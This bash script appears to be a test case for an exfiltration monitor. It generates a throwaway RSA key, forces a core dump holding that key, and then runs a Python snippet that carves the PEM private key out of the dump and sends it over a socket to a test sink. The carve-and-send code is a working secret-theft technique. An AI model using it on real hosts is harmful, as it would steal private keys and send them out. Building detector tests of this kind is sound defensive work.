#!/bin/bash
# B-pem-carved: a script looks through the mapped core for a private key, and sends only that, by a webhook.
# flow: the mapping counts as a read of all; about 1,700 bytes leave: a key, no bulk.
# tools: python3 openssl
# expect: sent counted port low
. "$CORPUS/lib.sh"
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out key 2>/dev/null
mkdir dumps
# shellcheck disable=SC2016 # the inner shell's own
{ (cd dumps && ulimit -c unlimited && KEY=$(cat ../key) exec /bin/sh -c 'kill -ABRT $$'); } 2>/dev/null
D=$(ls -d "$W"/dumps/core*)
made "$D"
rm key
sink tcp
python3 - "$D" "$SINK" "$PORT" <<'END'
import mmap, re, socket, sys
with open(sys.argv[1], "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as core:
    key = re.search(rb"-----BEGIN PRIVATE KEY-----[^-]+-----END PRIVATE KEY-----", core).group()
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(key)
END
sunk 1500
